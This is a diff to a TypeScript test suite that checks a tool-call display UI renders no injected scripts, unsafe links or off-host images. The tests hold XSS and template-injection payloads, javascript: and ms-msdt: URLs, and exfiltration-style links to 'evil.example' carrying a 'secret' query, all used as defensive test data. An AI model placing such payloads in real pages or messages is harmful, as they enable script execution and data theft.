@@ -92,7 +92,7 @@ const wrappings = [
   (x: string): string => `<!--><![CDATA[${x}]]>`,
   (x: string): string => x.replaceAll('<', '\\u003c'),
   (x: string): string => x.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
-  (x: string): string => [...x].join('\u0000'),
+  (x: string): string => x.replaceAll(/(?=.)/gs, '\u0000'),
   (x: string): string => `{{constructor.constructor('${x}')()}}\${${x}}`,
   (x: string): string => `[${x}](javascript:scriptRan(1)) ![${x}](https://evil.example/?q=secret)`,
 ]
@@ -128,13 +128,13 @@ const corpus: readonly string[] = [
 
 test.for<Kind>(['react', 'elements'])(
   'T-19 nothing that a tool gives, shows on its way or fails with runs as a script in %s (more with ../shared/material)',
-  async (kind, { skip }) => {
+  async (way, { skip }) => {
     const { page, ran } = await open(skip)
     const asked = site.asked.length
     const shown = await page.evaluate(
       async ({ kind, texts }) => {
         const half = Math.ceil(texts.length / 2)
-        const names = texts.map((text, n) => [`${text}`, n] as const)
+        const names = texts.map((text, n) => [text, n] as const)
         // A turn may have a hundred calls. Some texts stand alone, and all of them as keys and values.
         const single = texts.slice(0, 40)
         for (const text of single) stage.give(text)
@@ -175,21 +175,23 @@ test.for<Kind>(['react', 'elements'])(
           if (element.textContent === 'Change input') (element as HTMLElement).click()
         await new Promise<void>((resolve) => void setTimeout(resolve, 300))
         const main = document.querySelector('main')
-        const names_ = new Set([...(main?.querySelectorAll('*') ?? [])].map((one) => one.localName))
+        const elements = new Set(
+          [...(main?.querySelectorAll('*') ?? [])].map((one) => one.localName),
+        )
         const attributes = [...(main?.querySelectorAll('*') ?? [])].flatMap((one) =>
           one.getAttributeNames(),
         )
         return {
           cards: document.querySelectorAll('.tw-call').length,
           calls: stage.client.getSnapshot().calls.length,
-          names: [...names_],
+          names: [...elements],
           handlers: attributes.filter((name) => name.startsWith('on')),
           links: [...document.querySelectorAll('a')].map((link) => link.protocol),
           isThere:
             single.filter((text) => main?.textContent?.includes(text)).length / single.length,
         }
       },
-      { kind, texts: corpus },
+      { kind: way, texts: corpus },
     )
     expect(ran).toEqual([])
     expect(site.asked.slice(asked)).toEqual([])
@@ -228,24 +230,20 @@ test('T-19 a link goes to http, https and mail addresses and nowhere else', () =
     expect(safeLink(url)).toBe(url)
   const refused = [
     ...schemes.map((scheme) => `${scheme}alert(1)`),
-    ...[
-      '//evil.example',
-      '/a',
-      'a',
-      '',
-      '#x',
-      'https:\n//example.org',
-      ' https://example.org',
-      'https://a b',
-    ],
-    ...[
-      'ftp://a',
-      'intent://x',
-      'ms-msdt:/id',
-      'tel:1',
-      'chrome://settings',
-      'javascript://https://a%0aalert(1)',
-    ],
+    '//evil.example',
+    '/a',
+    'a',
+    '',
+    '#x',
+    'https:\n//example.org',
+    ' https://example.org',
+    'https://a b',
+    'ftp://a',
+    'intent://x',
+    'ms-msdt:/id',
+    'tel:1',
+    'chrome://settings',
+    'javascript://https://a%0aalert(1)',
   ]
   expect(refused.filter((url) => safeLink(url) !== null)).toEqual([])
 })
@@ -254,7 +252,7 @@ const stealing = 'https://evil.example/leak?q=secret'
 
 test.for<Kind>(['react', 'elements'])(
   'T-25 %s loads no image and looks at no link of another host, in whatever form a tool gives it',
-  async (kind, { skip }) => {
+  async (way, { skip }) => {
     const { page } = await open(skip)
     const asked = site.asked.length
     const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
@@ -285,14 +283,14 @@ test.for<Kind>(['react', 'elements'])(
       [{ type: 'image', url: pixel }],
     ]
     const seen = await page.evaluate(
-      async ({ kind, outputs }) => {
-        for (const output of outputs) stage.give(output)
-        const toolCalls = outputs.map((_, n) => ({ toolName: 'give', input: { text: `${n}` } }))
+      async ({ kind, values }) => {
+        for (const output of values) stage.give(output)
+        const toolCalls = values.map((_, n) => ({ toolName: 'give', input: { text: `${n}` } }))
         await stage.open(kind, [{ toolCalls }, { text: 'Done.' }], {
           imageOrigins: ['https://cdn.example'],
         })
         await stage.untilReady()
-        await stage.until(() => document.querySelectorAll('.tw-output').length === outputs.length)
+        await stage.until(() => document.querySelectorAll('.tw-output').length === values.length)
         for (const fold of document.querySelectorAll('details')) fold.open = true
         await new Promise<void>((resolve) => void setTimeout(resolve, 500))
         return {
@@ -303,7 +301,7 @@ test.for<Kind>(['react', 'elements'])(
           ).length,
         }
       },
-      { kind, outputs },
+      { kind: way, values: outputs },
     )
     expect(site.asked.slice(asked)).toEqual([])
     expect(seen.images).toEqual(['data:image/svg+', 'data:image/gif;'])
@@ -317,19 +315,15 @@ test('T-25 an image comes from where the host allows it, and from nowhere else',
   expect(safeImage('data:image/png;base64,AA')).toBe('data:image/png;base64,AA')
   expect(safeImage('blob:https://app.example/1')).toBe('blob:https://app.example/1')
   const refused = [
-    ...[
-      'https://cdn.example.evil.example/a',
-      'https://cdn.example@evil.example/',
-      'http://cdn.example/',
-    ],
-    ...[
-      'https://evil.example/#https://cdn.example',
-      'data:text/html,x',
-      'data:,x',
-      'javascript:1',
-      '/a.png',
-      '',
-    ],
+    'https://cdn.example.evil.example/a',
+    'https://cdn.example@evil.example/',
+    'http://cdn.example/',
+    'https://evil.example/#https://cdn.example',
+    'data:text/html,x',
+    'data:,x',
+    'javascript:1',
+    '/a.png',
+    '',
   ]
   expect(refused.filter((url) => safeImage(url, origins) !== null)).toEqual([])
   expect(safeImage('https://cdn.example/a.png')).toBeNull()
